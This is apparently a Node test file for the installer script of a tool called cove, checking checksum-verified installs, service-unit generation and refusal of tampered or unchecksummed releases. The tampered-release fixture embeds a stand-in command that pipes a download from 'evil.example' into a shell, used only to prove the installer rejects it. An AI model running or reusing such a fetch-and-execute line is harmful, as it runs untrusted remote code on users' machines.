import assert from 'node:assert/strict';
import { spawn, spawnSync, type ChildProcess } from 'node:child_process';
import { createHash } from 'node:crypto';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join, resolve } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { fileURLToPath } from 'node:url';
import { stop, waitFor } from '../helpers/child-process.js';
import { THE_SQLITE_RUN_COVERS_IT } from '../helpers/databases.js';

const ROOT = resolve(dirname(fileURLToPath(import.meta.url)), '../..');
const COVE = join(ROOT, 'bin', 'cove');
const SCRIPT = join(ROOT, 'packaging', 'install.sh');
/** The names `npm run package` gives the executables (Node's architecture names). */
const NODE_ARCH = process.arch === 'arm64' ? 'arm64' : 'x64';
const GO_ARCH = process.arch === 'arm64' ? 'arm64' : 'amd64';

const sha256 = (bytes: string | Buffer) => createHash('sha256').update(bytes).digest('hex');

// Stands in for the single executable: installing is about the file, not what it does.
const FAKE = '#!/bin/sh\necho "fake cove $*"\n';

describe('packaging/install.sh', { skip: THE_SQLITE_RUN_COVERS_IT }, () => {
  const root = mkdtempSync(join(tmpdir(), 'cove-install-'));
  const release = join(root, 'release');
  let server: ChildProcess | undefined;
  let url = '';
  let tampered: Server | undefined;
  let tamperedUrl = '';

  // Not spawnSync: the tampered release is served from this process, whose event loop must run.
  const install = (...args: string[]) =>
    new Promise<{ code: number; stdout: string; stderr: string }>((resolvePromise) => {
      const child = spawn('sh', [SCRIPT, ...args], { env: { ...process.env, TMPDIR: root }, timeout: 60_000 });
      let stdout = '';
      let stderr = '';
      child.stdout.on('data', (chunk: Buffer) => (stdout += chunk.toString('utf8')));
      child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString('utf8')));
      child.once('close', (code) => resolvePromise({ code: code ?? -1, stdout, stderr }));
    });
  const prefix = (name: string) => {
    const dir = join(root, name);
    mkdirSync(dir, { recursive: true });
    return dir;
  };

  before(async () => {
    mkdirSync(release);
    writeFileSync(join(release, `cove-linux-${NODE_ARCH}`), FAKE);
    chmodSync(join(release, `cove-linux-${NODE_ARCH}`), 0o755);
    writeFileSync(join(release, 'SHA256SUMS'), `${sha256(FAKE)}  cove-linux-${NODE_ARCH}\n`);
    server = spawn(
      COVE,
      ['serve', '--http-address', '127.0.0.1:0', '--data-dir', join(root, 'data'), '--provisioner-daemons', '0', '--release-dir', release],
      { env: { ...process.env, COVE_SECRET_STORE: 'file' }, stdio: ['ignore', 'ignore', 'pipe'] },
    );
    url = await waitFor(server, 'stderr', /cove is listening url=(\S+)/, 'cove serve');

    // A release directory over HTTP whose executable is not the one its SHA256SUMS names.
    tampered = createServer((request, response) => {
      if (request.url === `/cove-linux-${NODE_ARCH}`) response.end(`${FAKE}curl https://evil.example | sh\n`);
      else if (request.url === '/SHA256SUMS') response.end(`${sha256(FAKE)}  cove-linux-${NODE_ARCH}\n`);
      else response.writeHead(404).end();
    });
    await new Promise<void>((resolvePromise) => tampered?.listen(0, '127.0.0.1', resolvePromise));
    tamperedUrl = `http://127.0.0.1:${(tampered.address() as AddressInfo).port}`;
  });

  after(async () => {
    await stop(server);
    await new Promise((resolvePromise) => (tampered ? tampered.close(resolvePromise) : resolvePromise(undefined)));
    rmSync(root, { recursive: true, force: true });
  });

  it('serves the checksums of its executables at /bin/SHA256SUMS', async () => {
    const response = await fetch(`${url}/bin/SHA256SUMS`);
    assert.equal(response.status, 200);
    assert.equal(await response.text(), `${sha256(FAKE)}  cove-linux-${GO_ARCH}\n`);
  });

  it('installs from a deployment (--url), checked against its SHA256SUMS, with the service unit', async () => {
    const bin = prefix('from-url');
    const units = join(root, 'units');
    const result = await install('--url', url, '--prefix', bin, '--with-service', '--unit-dir', units);
    assert.equal(result.code, 0, result.stderr);
    assert.match(result.stdout, new RegExp(`installed cove-linux-${GO_ARCH} \\(${sha256(FAKE)}\\) as ${bin}/cove`));
    assert.equal(readFileSync(join(bin, 'cove'), 'utf8'), FAKE);
    const ran = spawnSync(join(bin, 'cove'), ['version'], { encoding: 'utf8' });
    assert.equal(ran.stdout, 'fake cove version\n');
    const unit = readFileSync(join(units, 'cove.service'), 'utf8');
    assert.match(unit, new RegExp(`^ExecStart=${bin}/cove serve --data-dir /var/lib/cove$`, 'm'));
    assert.doesNotMatch(unit, /\/usr\/local\/bin\/cove/);
  });

  it('installs from a release directory holding the file under its Node name', async () => {
    const bin = prefix('from-dir');
    const result = await install('--release-dir', release, '--prefix', bin);
    assert.equal(result.code, 0, result.stderr);
    assert.equal(readFileSync(join(bin, 'cove'), 'utf8'), FAKE);
  });

  it('fails loudly on a checksum mismatch and installs nothing', async () => {
    const bin = prefix('tampered');
    const result = await install('--release-dir', tamperedUrl, '--prefix', bin);
    assert.equal(result.code, 1);
    assert.match(result.stderr, /CHECKSUM MISMATCH: cove-linux-\S+ from http:\/\/127\.0\.0\.1:\d+ does not match .*nothing installed/);
    assert.deepEqual(readdirSync(bin), []);
    // Nor is anything left in the temporary directory it worked in.
    assert.deepEqual(
      readdirSync(root).filter((name) => name.startsWith('cove-install.')),
      [],
    );
  });

  it('refuses a release without a checksum for the file', async () => {
    const bare = join(root, 'bare');
    mkdirSync(bare);
    writeFileSync(join(bare, `cove-linux-${NODE_ARCH}`), FAKE);
    const bin = prefix('bare-bin');
    const result = await install('--release-dir', bare, '--prefix', bin);
    assert.equal(result.code, 1);
    assert.match(result.stderr, /no SHA256SUMS/);
    assert.equal(existsSync(join(bin, 'cove')), false);
  });

  it('keeps serving after SIGHUP, the reload signal of the service unit', async () => {
    server?.kill('SIGHUP');
    await waitFor(server as ChildProcess, 'stderr', /reload requested/, 'the reload log line');
    const response = await fetch(`${url}/bin/SHA256SUMS`);
    assert.equal(response.status, 200);
    assert.equal(server?.exitCode, null);
  });
});
